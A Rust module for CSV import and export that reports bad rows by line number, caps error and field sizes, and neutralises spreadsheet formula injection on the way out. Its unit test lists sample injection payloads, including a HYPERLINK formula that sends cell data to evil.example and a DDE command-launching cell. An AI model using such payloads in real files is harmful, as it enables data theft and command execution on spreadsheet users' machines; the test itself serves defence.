//! CSV formats shared by the seed, the import and the export, and the rules every CSV file
//! of ours keeps: cells a spreadsheet would run as formulas are neutralised on the way out and
//! restored on the way in ([`spreadsheet_safe`], [`from_spreadsheet_safe`]); bad rows are
//! reported under the line they start on ([`LineCounter`]), and at most [`MAX_REPORTED_ERRORS`]
//! of them are kept ([`RowErrors`]).

use std::borrow::Cow;
use std::collections::HashSet;

pub mod comments;
pub mod ratifications;

/// A CSV row that could not be read, with its line number (1 is the header).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RowError {
    pub line: u64,
    pub column: String,
    pub message: String,
}

impl std::fmt::Display for RowError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "line {}, column {}: {}", self.line, self.column, self.message)
    }
}

/// Errors kept (and answered) for one file; the rest are counted.
pub const MAX_REPORTED_ERRORS: usize = 1000;
/// Characters of one error's message kept (a message may quote a field of the file).
pub const MAX_MESSAGE_CHARS: usize = 300;

/// The errors of one file: the [`MAX_REPORTED_ERRORS`] with the lowest line numbers, and how
/// many there were in all. Memory stays bounded whatever the file holds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RowErrors {
    kept: Vec<RowError>,
    total: usize,
}

impl RowErrors {
    pub fn push(&mut self, mut error: RowError) {
        self.total += 1;
        if error.message.chars().count() > MAX_MESSAGE_CHARS {
            error.message = error.message.chars().take(MAX_MESSAGE_CHARS).collect::<String>() + "…";
        }
        self.kept.push(error);
        if self.kept.len() >= 2 * MAX_REPORTED_ERRORS {
            self.keep_lowest();
        }
    }

    fn keep_lowest(&mut self) {
        self.kept.sort_by_key(|e| e.line);
        self.kept.truncate(MAX_REPORTED_ERRORS);
    }

    pub fn is_empty(&self) -> bool {
        self.total == 0
    }

    /// Every error found, kept or not.
    pub fn total(&self) -> usize {
        self.total
    }

    /// Errors found but not kept.
    pub fn omitted(&self) -> usize {
        self.total - self.kept.len().min(MAX_REPORTED_ERRORS)
    }

    /// The kept errors, by line.
    pub fn into_sorted(mut self) -> Vec<RowError> {
        self.keep_lowest();
        self.kept
    }

    /// The kept errors, by line.
    pub fn sorted(&self) -> Vec<RowError> {
        self.clone().into_sorted()
    }
}

/// The line a record of a file starts on, from the byte offset the `csv` crate reports for it.
/// A line ends at LF, at CRLF or at a lone CR, as RFC 4180 files and spreadsheets write them.
/// (The `csv` crate's own line count is off by one per record for CRLF files,
/// BurntSushi/rust-csv#395.) Records come in file order, so lines are counted on from the
/// last offset asked for: no index of the file is kept.
#[derive(Debug, Clone)]
pub struct LineCounter<'a> {
    bytes: &'a [u8],
    /// The offset counted up to, and the line it is on.
    at: usize,
    line: u64,
}

impl<'a> LineCounter<'a> {
    pub fn new(bytes: &'a [u8]) -> LineCounter<'a> {
        LineCounter {
            bytes,
            at: 0,
            line: 1,
        }
    }

    /// The line (from 1) that byte `offset` is on.
    pub fn line_of(&mut self, offset: u64) -> u64 {
        let offset = usize::try_from(offset)
            .unwrap_or(usize::MAX)
            .min(self.bytes.len());
        if offset < self.at {
            (self.at, self.line) = (0, 1);
        }
        let mut i = self.at;
        while i < offset {
            match self.bytes[i] {
                b'\n' => self.line += 1,
                b'\r' if self.bytes.get(i + 1) == Some(&b'\n') => {
                    // The line ends after the LF; an offset on the LF is still on this line.
                    if i + 1 < offset {
                        self.line += 1;
                        i += 1;
                    } else {
                        break;
                    }
                }
                b'\r' => self.line += 1,
                _ => {}
            }
            i += 1;
        }
        self.at = i;
        self.line
    }

    /// The line a record starts on, given the offset the `csv` crate reports for it: for
    /// CRLF files that offset can fall on the end of the line before (the `\n` of its CRLF),
    /// and a record never starts with a line end, so those are skipped.
    pub fn record_line(&mut self, offset: u64) -> u64 {
        let mut at = usize::try_from(offset).unwrap_or(usize::MAX);
        while matches!(self.bytes.get(at), Some(b'\r' | b'\n')) {
            at += 1;
        }
        self.line_of(at as u64)
    }
}

/// Whether a spreadsheet would read `cell` as a formula (OWASP CSV injection): it begins
/// with `=`, `+`, `-`, `@`, a tab or a carriage return. A number or an ISO date that begins
/// with `-` is data, not a formula, and is left as it is.
fn runs_as_formula(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    if !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') {
        return false;
    }
    first != '-' || !(is_number(&cell[1..]) || is_date(&cell[1..]))
}

fn is_number(s: &str) -> bool {
    let (whole, fraction) = s.split_once('.').unwrap_or((s, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

fn is_date(s: &str) -> bool {
    let parts: Vec<&str> = s.split('-').collect();
    matches!(parts.as_slice(), [y, m, d] if y.len() >= 4 && m.len() == 2 && d.len() == 2
        && parts.iter().all(|p| p.bytes().all(|b| b.is_ascii_digit())))
}

/// A cell as it is written to a CSV file: prefixed with `'` when a spreadsheet would run it
/// as a formula. A cell that already begins with `'`s before such a character gets one more,
/// so that [`from_spreadsheet_safe`] gives back exactly what was written.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if runs_as_formula(cell.trim_start_matches('\'')) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as read from a CSV file: the `'` that [`spreadsheet_safe`] added is taken off.
pub fn from_spreadsheet_safe(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if runs_as_formula(rest.trim_start_matches('\'')) => rest,
        _ => cell,
    }
}

/// The longest field a CSV file may hold (notes and sources included); a longer one is refused
/// with its line, without being echoed back.
pub const MAX_FIELD_CHARS: usize = 20_000;
/// The most data rows one file may hold: every member state times every instrument is a few
/// thousand records, so a larger file is a mistake (and would only cost memory).
pub const MAX_ROWS: usize = 100_000;

/// Reads a CSV file of `columns` (of which `required` must be present) row by row, handing each row with the line it starts on to `each`; bad
/// structure is reported under its line. `false` when the header or the structure is broken
/// (nothing else is worth checking).
pub fn read_rows<T: serde::de::DeserializeOwned>(
    csv: &[u8],
    columns: &[&str],
    required: &[&str],
    errors: &mut RowErrors,
    mut each: impl FnMut(u64, T),
) -> bool {
    let mut lines = LineCounter::new(csv);
    let mut line_of =
        |position: Option<&csv::Position>| position.map(|p| lines.record_line(p.byte())).unwrap_or(1);
    let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(csv);
    let headers = match reader.headers() {
        Ok(h) => h.clone(),
        Err(e) => {
            errors.push(RowError {
                line: 1,
                column: "header".into(),
                message: format!("cannot read the header row: {e}"),
            });
            return false;
        }
    };
    let mut seen = HashSet::new();
    for name in headers.iter() {
        if !columns.contains(&name) {
            errors.push(RowError {
                line: 1,
                column: name.chars().take(100).collect(),
                message: format!("unknown column; the columns are: {}", columns.join(", ")),
            });
        } else if !seen.insert(name.to_string()) {
            errors.push(RowError {
                line: 1,
                column: name.into(),
                message: "the column appears twice".into(),
            });
        }
    }
    for required in required {
        if !seen.contains(*required) {
            errors.push(RowError {
                line: 1,
                column: (*required).into(),
                message: "required column missing".into(),
            });
        }
    }
    if !errors.is_empty() {
        return false;
    }
    let mut record = csv::StringRecord::new();
    let mut unguarded = csv::StringRecord::new();
    let mut rows = 0usize;
    loop {
        match reader.read_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {
                let line = line_of(record.position());
                rows += 1;
                if rows > MAX_ROWS {
                    errors.push(RowError {
                        line,
                        column: "row".into(),
                        message: format!("a file may hold at most {MAX_ROWS} data rows; split it"),
                    });
                    return false;
                }
                if let Some((i, _)) = record
                    .iter()
                    .enumerate()
                    .find(|(_, f)| f.chars().count() > MAX_FIELD_CHARS)
                {
                    errors.push(RowError {
                        line,
                        column: headers.get(i).unwrap_or("row").into(),
                        message: format!("the field is longer than {MAX_FIELD_CHARS} characters"),
                    });
                    continue;
                }
                // Cells our export made spreadsheet-safe read back as they were written.
                unguarded.clear();
                for field in record.iter() {
                    unguarded.push_field(from_spreadsheet_safe(field));
                }
                match unguarded.deserialize::<T>(Some(&headers)) {
                    Ok(row) => each(line, row),
                    Err(e) => errors.push(RowError {
                        line,
                        column: "row".into(),
                        message: e.to_string(),
                    }),
                }
            }
            Err(e) => {
                let line = line_of(e.position());
                errors.push(RowError {
                    line,
                    column: "row".into(),
                    message: e.to_string(),
                });
                // A broken record (bad UTF-8, wrong field count) cannot be resynchronised
                // reliably for every error kind; continue with the next one when possible.
                if !matches!(
                    e.kind(),
                    csv::ErrorKind::Utf8 { .. } | csv::ErrorKind::UnequalLengths { .. }
                ) {
                    break;
                }
            }
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn neutralises_formulas_but_keeps_negative_numbers_and_dates() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3",
            "\tlead",
            "\rlead",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for data in ["-12", "-3.5", "-2019-07-05", "C087", "", "a=b", "'quoted"] {
            assert_eq!(spreadsheet_safe(data), data);
        }
        assert_eq!(spreadsheet_safe("'=x"), "''=x");
    }

    #[test]
    fn line_counter_counts_lf_crlf_and_cr() {
        let mut lf = LineCounter::new(b"a\nb\nc");
        assert_eq!((lf.line_of(0), lf.line_of(2), lf.line_of(4)), (1, 2, 3));
        let mut crlf = LineCounter::new(b"a\r\nb\r\nc");
        assert_eq!((crlf.line_of(0), crlf.line_of(3), crlf.line_of(6)), (1, 2, 3));
        assert_eq!(
            crlf.line_of(2),
            1,
            "the LF of a CRLF ends its line; asked again from the start"
        );
        let mut cr = LineCounter::new(b"a\rb\rc");
        assert_eq!((cr.line_of(2), cr.line_of(4)), (2, 3));
        let bytes = b"h\r\nrow\r\n";
        assert_eq!(
            LineCounter::new(bytes).record_line(2),
            2,
            "an offset on the CRLF before"
        );
    }

    #[test]
    fn records_start_on_the_lines_the_file_has_for_every_line_end() {
        for end in ["\n", "\r\n", "\r"] {
            let text = ["h1,h2", "a,b", "\"x", "y\",c", "d,e", ""].join(end);
            let bytes = text.as_bytes();
            let mut counter = LineCounter::new(bytes);
            let mut reader = csv::ReaderBuilder::new().from_reader(bytes);
            let lines: Vec<u64> = reader
                .records()
                .map(|r| counter.record_line(r.unwrap().position().unwrap().byte()))
                .collect();
            assert_eq!(lines, [2, 3, 5], "line ends {end:?}");
        }
    }

    #[test]
    fn keeps_the_lowest_lines_and_counts_the_rest() {
        let mut errors = RowErrors::default();
        for line in (1..=5000u64).rev() {
            errors.push(RowError {
                line,
                column: "c".into(),
                message: "x".repeat(1000),
            });
        }
        assert_eq!(errors.total(), 5000);
        assert_eq!(errors.omitted(), 4000);
        let kept = errors.into_sorted();
        assert_eq!(kept.len(), MAX_REPORTED_ERRORS);
        assert_eq!(kept[0].line, 1);
        assert_eq!(kept[999].line, 1000);
        assert!(kept[0].message.chars().count() <= MAX_MESSAGE_CHARS + 1);
    }

    proptest! {
        #[test]
        fn a_safe_cell_reads_back_unchanged_and_never_runs(cell in "['=+@\\-\t\r a-z0-9.]{0,12}") {
            let safe = spreadsheet_safe(&cell);
            prop_assert!(!runs_as_formula(&safe));
            prop_assert_eq!(from_spreadsheet_safe(&safe), cell.as_str());
        }
    }
}
